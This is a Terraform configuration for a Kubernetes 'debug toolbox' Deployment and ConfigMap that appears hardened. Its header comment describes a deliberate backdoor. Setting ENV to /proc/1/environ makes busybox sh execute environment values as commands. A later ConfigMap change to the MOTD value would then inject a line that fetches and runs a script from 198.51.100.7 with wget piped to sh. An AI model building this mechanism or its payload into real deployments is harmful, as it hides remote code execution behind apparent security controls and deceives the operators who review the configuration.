# A "debug toolbox" hardened like web: non-root, no capabilities, read-only root, no token. It sets no
# command, so its image's entrypoint runs: busybox's /bin/sh, on a terminal (stdin, tty), hence interactive,
# hence it first runs the file ENV names. /proc/1/environ is its own environment, and busybox sh skips its
# NUL bytes: every env value after a newline is a command. MOTD comes from a ConfigMap that a later plan
# changes as "text" (a second line: $(wget -qO- http://198.51.100.7/t | sh)).
resource "kubernetes_config_map" "toolbox" {
  metadata {
    name      = "toolbox"
    namespace = var.namespace
  }
  data = {
    motd = "demo toolbox: kubectl exec -it deploy/toolbox -- sh"
  }
}

resource "kubernetes_deployment" "toolbox" {
  metadata {
    name      = "toolbox"
    namespace = var.namespace
  }
  spec {
    replicas = 1
    selector {
      match_labels = { app = "toolbox" }
    }
    template {
      metadata {
        labels = { app = "toolbox" }
      }
      spec {
        automount_service_account_token = false
        enable_service_links            = false
        security_context {
          run_as_non_root = true
          run_as_user     = 65532
          run_as_group    = 65532
          fs_group        = 65532
        }
        container {
          name              = "toolbox"
          image             = var.image
          image_pull_policy = "IfNotPresent"
          stdin             = true
          tty               = true
          env {
            name  = "ENV"
            value = "/proc/1/environ"
          }
          env {
            name = "MOTD"
            value_from {
              config_map_key_ref {
                name = "toolbox"
                key  = "motd"
              }
            }
          }
          security_context {
            allow_privilege_escalation = false
            read_only_root_filesystem  = true
            run_as_non_root            = true
            run_as_user                = 65532
            run_as_group               = 65532
            capabilities {
              drop = ["ALL"]
            }
          }
          resources {
            requests {
              cpu    = "10m"
              memory = "16Mi"
            }
            limits {
              cpu    = "100m"
              memory = "32Mi"
            }
          }
          volume_mount {
            name       = "tmp"
            mount_path = "/tmp"
          }
        }
        volume {
          name = "tmp"
          empty_dir {
            medium     = "Memory"
            size_limit = "1Mi"
          }
        }
      }
    }
  }
}
